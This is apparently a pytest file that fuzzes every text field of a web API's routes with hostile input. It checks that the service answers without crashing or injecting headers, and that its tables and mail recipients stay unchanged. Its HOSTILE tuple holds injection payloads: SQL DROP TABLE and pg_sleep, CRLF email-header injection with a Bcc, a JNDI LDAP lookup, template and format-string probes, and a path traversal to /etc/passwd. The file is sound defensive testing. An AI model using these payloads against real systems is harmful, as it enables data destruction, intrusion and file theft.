"""Hostile text in every text field of every route. The fields are read from the OpenAPI document, so a new route or
field is covered as soon as it is there.
"""

import json
from collections.abc import AsyncIterator, Iterator
from typing import Any, NamedTuple, cast
from urllib.parse import quote

import httpx
import pytest
from litestar import Litestar

from api.document import openapi_json
from lib.postgres.server import PostgresServer
from tests.support import seed
from tests.support.accounts import PASSWORD, House, Person, add_person, known, new_address, open_house
from tests.support.alerts import add_alert

FORM = "application/x-www-form-urlencoded"
ME = "/api/v1/users/me"
HOSTILE = (
    "x'); DROP TABLE users; SELECT pg_sleep(9) --",
    "kim@example.com\r\nBcc: eve@example.net\r\nX-Injected: yes\r\n\r\n<script>",
    "%0d%0aX-Injected: yes ${jndi:ldap://192.0.2.1/x}{{7*7}}%s%n",
    "\u202e\u2028\ufeff\x1b[2J../../etc/passwd" + "A" * 5000,
)
NULL = "kim\x00@example.com"
_TABLES = "SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public'"


class Field(NamedTuple):
    """A text field: of which operation, where it stands, and what of it is a list."""

    method: str
    path: str
    where: str
    name: str
    is_list: bool = False

    def __str__(self) -> str:
        return f"{self.method} {self.path} {self.where} {self.name}"


@pytest.fixture(scope="module")
async def hostile_house(postgres: PostgresServer, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    home = tmp_path_factory.mktemp("house")
    async with open_house(postgres, home, password_memory_mib=19, password_rounds=2) as opened:
        await seed.add_symbol(opened.pool, "AAPL")
        await seed.add_scorer(opened.pool)
        yield opened


class Asker(NamedTuple):
    """An admin, and things of theirs, so that each route is reached to its end."""

    admin: Person
    ids: dict[str, str]


async def newcomer(house: House) -> Asker:
    admin = await known(house, "admin")
    watchlist = await house.client.post(f"{ME}/watchlists", json={"name": "mine"}, headers=admin.bearer)
    key = await house.client.post(f"{ME}/api-keys", json={"name": "mine", "scopes": ["read"]}, headers=admin.bearer)
    other = await add_person(house.pool, new_address())
    ids = {
        "watchlist_id": watchlist.json()["id"], "key_id": key.json()["id"],
        "alert_id": str(await add_alert(house.pool, admin.id)), "user_id": str(other.id),
        "session_id": str(other.id), "symbol": "AAPL",
    }  # fmt: skip
    return Asker(admin, ids)


def test_every_body_has_text_fields_that_are_tried(document: dict[str, Any]) -> None:
    tried = {(field.method, field.path) for field in fields_of(document)}
    assert len(list(fields_of(document))) > 90
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            if "requestBody" in operation or "{" in path:
                assert (method, path) in tried


@pytest.fixture(scope="module")
def document(hostile_house: House) -> dict[str, Any]:
    return cast("dict[str, Any]", json.loads(openapi_json(cast("Litestar", hostile_house.client.app))))


async def test_hostile_text_does_nothing(hostile_house: House, document: dict[str, Any]) -> None:
    asker = await newcomer(hostile_house)
    tables = await hostile_house.pool.fetchval(_TABLES)
    for field in fields_of(document):
        await hostile_house.pool.execute("DELETE FROM throttles")
        for text in HOSTILE:
            answer = await ask(hostile_house, document, field, text, asker)
            if answer.status_code == 401:
                # the text was a good password
                asker = await newcomer(hostile_house)
                answer = await ask(hostile_house, document, field, text, asker)
            told = (str(field), text[:40], answer.status_code, answer.text[:300])
            declared = document["paths"][field.path][field.method]["responses"]
            assert answer.status_code < 500, told
            assert answer.status_code != 401, told
            assert str(answer.status_code) in declared or field.where == "path", told
            for name, value in answer.headers.items():
                assert "injected" not in f"{name}{value}".lower(), told
                assert value.isprintable(), told
    assert await hostile_house.pool.fetchval(_TABLES) == tables
    strangers = "SELECT count(*) FROM users WHERE email NOT LIKE 'kim-%@example.com' OR email LIKE '%bcc%'"
    assert await hostile_house.pool.fetchval(strangers) == 0
    addresses = [row["address"] for row in await hostile_house.pool.fetch("SELECT address FROM mails")]
    assert not [address for address in addresses if address and "eve" in address]


async def test_a_null_character_is_refused_in_every_text(hostile_house: House, document: dict[str, Any]) -> None:
    asker = await newcomer(hostile_house)
    for field in fields_of(document):
        answer = await ask(hostile_house, document, field, NULL, asker)
        refused = (200, 400) if field.path.endswith("/revoke") else (400,)
        assert answer.status_code in refused, (str(field), answer.status_code, answer.text[:300])


def fields_of(document: dict[str, Any]) -> Iterator[Field]:
    """Every text field of every operation, and whatever is given as text in a path or a query."""
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            for parameter in operation.get("parameters", ()):
                if parameter["in"] in ("path", "query"):
                    yield Field(method, path, parameter["in"], parameter["name"])
            for media, body in operation.get("requestBody", {}).get("content", {}).items():
                where = "form" if media == FORM else "json"
                for name, schema in resolved(document, body["schema"])["properties"].items():
                    kinds = kinds_of(document, schema)
                    if any(kind.get("type") == "string" or "enum" in kind for kind in kinds):
                        yield Field(method, path, where, name)
                    if any(kind.get("type") == "array" for kind in kinds):
                        yield Field(method, path, where, name, is_list=True)


def resolved(document: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = document["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    return schema


def kinds_of(document: dict[str, Any], schema: dict[str, Any]) -> list[dict[str, Any]]:
    schema = resolved(document, schema)
    ways = schema.get("anyOf") or schema.get("oneOf") or [schema]
    return [resolved(document, way) for way in ways]


def usual(document: dict[str, Any], name: str, schema: dict[str, Any]) -> Any:
    """A value that the field takes."""
    if "password" in name:
        return PASSWORD
    for kind in kinds_of(document, schema):
        if examples := kind.get("examples") or schema.get("examples"):
            return examples[0]
        if "enum" in kind:
            return kind["enum"][0]
        if kind.get("type") == "string":
            return "x"
        if kind.get("type") == "boolean":
            return False
        if kind.get("type") == "integer":
            return kind.get("minimum", 1)
    return []


def body_for(document: dict[str, Any], operation: dict[str, Any]) -> dict[str, Any]:
    """A body with what is required, and for an alert an address."""
    [content] = operation["requestBody"]["content"].values()
    schema = resolved(document, content["schema"])
    needed = [
        *schema.get("required", ()),
        *(name for name in ("grant_type", "username") if name in schema["properties"]),
    ]
    found = {name: usual(document, name, schema["properties"][name]) for name in needed}
    if "channel" in found:
        found |= {"channel": "webhook", "url": "https://example.com/hook", "symbol": "AAPL", "measure": "price"}
    return found


async def ask(house: House, document: dict[str, Any], field: Field, text: str, asker: Asker) -> httpx.Response:
    operation = document["paths"][field.path][field.method]
    # let through, a stream would never end: another parameter of it is always wrong
    query = {"kinds": "none"} if field.path.endswith("/stream") else {}
    body = body_for(document, operation) if "requestBody" in operation else None
    values = dict(asker.ids)
    match field.where:
        case "path":
            values[field.name] = text
        case "query":
            query[field.name] = text
        case _:
            assert body is not None
            body[field.name] = [text] if field.is_list else text
    path = field.path
    for name, value in values.items():
        path = path.replace(f"{{{name}}}", quote(value, safe=""))
    sent: dict[str, Any] = {"data": body} if field.where == "form" else {"json": body} if body is not None else {}
    return await house.client.request(
        field.method.upper(), path, params=query, headers=asker.admin.bearer, follow_redirects=False, **sent
    )
